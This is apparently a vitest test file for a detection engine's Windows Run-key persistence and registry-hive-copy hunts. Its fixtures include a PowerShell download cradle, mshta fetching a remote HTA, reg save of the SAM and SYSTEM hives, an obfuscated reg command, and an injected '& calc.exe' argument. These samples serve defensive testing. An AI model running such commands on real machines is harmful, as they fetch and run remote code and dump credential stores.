import { describe, expect, it } from 'vitest';
import { techniqueOf } from '../../src/core/content/attack.ts';
import { buildFinding } from '../../src/core/finding/build-finding.ts';
import { compileContent, judge } from '../../src/core/judge/judge.ts';
import { predicate, recordView } from '../../src/core/sigma/predicate.ts';
import { caseOf, NOON, process, runValue } from '../core/hunt/given.ts';
import { shippedContent } from '../shipped.ts';

const content = await shippedContent();
const tables = compileContent(content);

function huntOf(id: string) {
  const hunt = content.hunts.find((candidate) => candidate.id === id);
  if (hunt === undefined) throw new Error(`no hunt ${id}`);
  return hunt;
}

const RUN_KEYS = huntOf('run-key-persistence');
const HIVES = huntOf('registry-hive-copy');

function selects(hunt: typeof RUN_KEYS, fields: Readonly<Record<string, string>>): boolean {
  const isSet = fields['registry.path'] !== undefined;
  return hunt.select.some(
    ({ kind, condition }) => (kind === 'registry_set') === isSet && predicate(condition)(recordView(fields)),
  );
}

describe('the shipped content', () => {
  it('loads without a problem', () => {
    expect(content.hunts.map(({ id }) => id).sort()).toEqual(
      expect.arrayContaining(['hive-file', 'registry-hive-copy', 'run-key-persistence']),
    );
    expect(content.indicators.length).toBeGreaterThan(60);
    expect(content.profiles.length).toBeGreaterThan(5);
  });

  it('has no two indicators or mitigations of one name', () => {
    const names = [...content.indicators, ...content.mitigations].map(
      ({ name, hunts }) => `${name} ${hunts}`,
    );
    expect(new Set(names).size).toBe(names.length);
  });

  it('knows the name of every technique an indicator is tagged with', () => {
    const unknown = content.indicators.flatMap(({ attack }) =>
      attack.filter((id) => techniqueOf(id) === undefined),
    );
    expect(unknown).toEqual([]);
  });

  it.each([
    ['reg save HKLM\\SAM C:\\b\\sam.hiv', ['T1003', 'T1012'], ['T1003.002']],
    ['reg export HKCU\\Software\\Tide C:\\b\\tide.reg', ['T1012'], undefined],
    ['reg restore HKLM\\SOFTWARE\\Tide C:\\b\\tide.hiv', ['T1112'], undefined],
    ['reg import C:\\b\\tide.reg', ['T1112'], undefined],
  ])('%s is told with the techniques it shows, and no others of its hunt', (line, techniques, subs) => {
    const judged = caseOf(process('C:\\Windows\\System32\\reg.exe', line));
    const judgement = judge(judged, HIVES, tables, NOON);
    const { threat } = buildFinding(judged, judgement, HIVES, { runId: 'r', now: NOON });
    expect(threat.technique.id).toEqual(techniques);
    expect(threat.technique.subtechnique?.id).toEqual(subs);
  });

  it('gives every indicator a technique or a reason that stands alone, and a weight below certainty', () => {
    for (const { name, reason, weight } of content.indicators) {
      expect(reason.length, name).toBeGreaterThan(25);
      expect(weight, name).toBeLessThan(0.9);
    }
  });

  it('keeps no exception longer than two years', () => {
    for (const { name, expires } of content.exceptions) {
      expect(expires, name).toBeLessThanOrEqual(Date.parse('2027-12-31T00:00:00Z'));
    }
  });
});

const SID = 'S-1-5-21-1004336348-1177238915-682003330-1001';
const SOFTWARE = '\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion';

describe('the Run key hunt', () => {
  it.each([
    `HKU\\${SID}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\App`,
    `HKLM${SOFTWARE}\\Run\\App`,
    `HKLM\\SOFTWARE\\WOW6432Node\\Microsoft\\Windows\\CurrentVersion\\Run\\App`,
    `HKLM${SOFTWARE}\\RunOnce\\App`,
    `HKLM${SOFTWARE}\\RunOnceEx\\0001\\1`,
    `HKLM${SOFTWARE}\\RunOnceEx\\0001\\Depend\\1`,
    `HKLM${SOFTWARE}\\RunServices\\App`,
    `HKLM${SOFTWARE}\\RunServicesOnce\\App`,
    `HKU\\.DEFAULT${SOFTWARE}\\Policies\\Explorer\\Run\\1`,
    `HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Terminal Server\\Install\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\App`,
    `HKU\\${SID}\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Windows\\Load`,
    `HKU\\${SID}\\SOFTWARE\\MICROSOFT\\WINDOWS NT\\CURRENTVERSION\\WINDOWS\\RUN`,
    `HKLM${SOFTWARE}\\Run\\`,
  ])('selects %s', (path) => {
    expect(selects(RUN_KEYS, { 'registry.path': path })).toBe(true);
  });

  it.each([
    `HKU\\${SID}${SOFTWARE}\\Explorer\\RunMRU\\a`,
    `HKLM\\SYSTEM\\CurrentControlSet\\Services\\App\\ImagePath`,
    `HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Windows\\AppInit_DLLs`,
    `HKLM${SOFTWARE}\\RunOnce`,
    `HKLM${SOFTWARE}\\Runtime\\App`,
  ])('leaves %s alone', (path) => {
    expect(selects(RUN_KEYS, { 'registry.path': path })).toBe(false);
  });

  const judged = (name: string, data: string, writer?: string) => {
    const anchor = runValue(name, data, { id: 'A' });
    const parts =
      writer === undefined
        ? {}
        : {
            writer: {
              status: 'found',
              event: process(writer, writer, {
                id: 'A',
                at: -1,
                fields: { 'process.hash.sha256': 'a'.repeat(64) },
              }),
              weak: false,
            } as const,
          };
    return judge(caseOf(anchor, parts), RUN_KEYS, tables, NOON);
  };

  it('reports an installed program as low, and suppresses nothing that users can write', () => {
    const routine = judged(
      'Tool',
      '"C:\\Program Files\\Maker\\Tool.exe" -tray',
      'C:\\Windows\\System32\\msiexec.exe',
    );
    expect(routine).toMatchObject({ severity: 'low' });
    expect(routine.riskScore).toBeGreaterThanOrEqual(RUN_KEYS.reportAt);
    const onedrive = 'C:\\Users\\kim\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe';
    const known = judged('OneDrive', `"${onedrive}" /background`, onedrive);
    expect(known).toMatchObject({ severity: 'low' });
    expect(known.suppressedBy).toBeUndefined();
  });

  it('does not lower a known name with another program, more arguments or another writer', () => {
    const onedrive = 'C:\\Users\\kim\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe';
    const lowered = (data: string, writer: string): boolean =>
      judged('OneDrive', data, writer).mitigations.some(({ id }) => id === 'microsoft-onedrive');
    expect(lowered(`"${onedrive}" /background`, onedrive)).toBe(true);
    expect(lowered('"C:\\Users\\kim\\AppData\\Roaming\\OneDrive.exe" /background', onedrive)).toBe(false);
    expect(lowered(`"${onedrive}" /background & calc.exe`, onedrive)).toBe(false);
    expect(lowered(`"${onedrive}" /background`, 'C:\\Users\\kim\\Downloads\\OneDrive.exe')).toBe(false);
  });

  it('suppresses the icon of Windows Security, but not a program beside it', () => {
    const at = (path: string) => {
      const anchor = runValue('SecurityHealth', path, {
        fields: { 'registry.path': `HKLM${SOFTWARE}\\Run\\SecurityHealth` },
      });
      return judge(caseOf(anchor), RUN_KEYS, tables, NOON).suppressedBy?.id;
    };
    expect(at('%windir%\\system32\\SecurityHealthSystray.exe')).toBe('microsoft-security-health');
    expect(at('%windir%\\system32\\..\\temp\\SecurityHealthSystray.exe')).toBeUndefined();
    expect(at('C:\\Windows\\Temp\\SecurityHealthSystray.exe')).toBeUndefined();
  });

  it.each([
    [
      'a download cradle',
      'powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://a.example/p\')"',
      'critical',
    ],
    ['code in another value', 'powershell -c "iex (gp HKCU:\\Software\\Microsoft\\Cache).Data"', 'critical'],
    ['a copy of svchost in the profile', 'C:\\Users\\kim\\AppData\\Roaming\\svchost.exe', 'critical'],
    ['a library in ProgramData', 'rundll32.exe C:\\ProgramData\\x\\a.dat,#1', 'critical'],
    ['mshta with an address', 'mshta.exe http://a.example/x.hta', 'critical'],
    ['a program in a temporary folder', 'C:\\Users\\kim\\AppData\\Local\\Temp\\a.exe', 'high'],
  ])('calls %s what it is', (_what, data, severity) => {
    expect(judged('Update', data).severity).toBe(severity);
  });

  it('sees a name that cannot be seen', () => {
    const anchor = runValue('', 'C:\\Program Files\\a\\a.exe', {
      fields: { 'registry.path': `HKLM${SOFTWARE}\\Run\\`, 'registry.value': '' },
    });
    const judgement = judge(caseOf(anchor), RUN_KEYS, tables, NOON);
    expect(judgement.riskScore).toBeGreaterThanOrEqual(60);
  });
});

describe('the hive hunt', () => {
  const REG = 'C:\\Windows\\System32\\reg.exe';
  const judged = (image: string, line: string, neighbours: readonly string[] = []) => {
    const anchor = process(image, line, { id: 'A' });
    return judge(
      caseOf(anchor, {
        neighbours: neighbours.map((other, at) => process(REG, other, { id: `N${at}`, at: at + 1 })),
      }),
      HIVES,
      tables,
      NOON,
    );
  };

  it.each([
    [REG, 'reg save HKLM\\SAM s'],
    [REG, 'reg "sa"ve HKLM\\SAM s'],
    ['C:\\Windows\\regedit.exe', 'regedit /e a.reg HKEY_LOCAL_MACHINE\\SAM'],
    ['C:\\t\\a.exe', 'a.exe SAVE hklm\\sam s'],
    ['C:\\Windows\\System32\\cmd.exe', 'cmd /c "reg save HKLM\\SAM s"'],
  ])('selects %s %s', (image, line) => {
    expect(selects(HIVES, { 'process.executable': image, 'process.command_line': line })).toBe(true);
  });

  it('reports no query, no add and no delete', () => {
    for (const line of [
      'reg query HKLM\\SAM',
      'reg add HKCU\\Software\\x /v a',
      'reg delete HKCU\\Software\\x',
    ]) {
      expect(judged(REG, line).riskScore, line).toBe(0);
    }
  });

  it('calls SAM alone high, with SYSTEM critical whatever mitigates it', () => {
    expect(judged(REG, 'reg save HKLM\\SAM C:\\out\\s').severity).toBe('high');
    const pair = judged(REG, 'reg save HKLM\\SAM C:\\out\\s', ['reg save HKLM\\SYSTEM C:\\out\\y']);
    expect(pair).toMatchObject({ severity: 'critical', floor: 74 });
  });

  it('sees a renamed reg.exe by its original name or by its grammar', () => {
    const names = judged('C:\\t\\a.exe', 'a.exe save hklm\\sam s').indicators.map(({ group }) => group);
    expect(names).toContain('disguise');
  });

  it('calls the export of one product key low', () => {
    expect(judged(REG, 'reg export HKCU\\Software\\Maker\\Tool C:\\backup\\tool.reg')).toMatchObject({
      severity: 'low',
    });
  });

  it('calls a restored services key high, and critical when anybody may have written the hive', () => {
    const key = 'HKLM\\SYSTEM\\CurrentControlSet\\Services\\x';
    expect(judged(REG, `reg restore ${key} C:\\saved\\x.hiv`).severity).toBe('high');
    expect(judged(REG, `reg restore ${key} C:\\Users\\Public\\x.hiv`).severity).toBe('critical');
  });
});
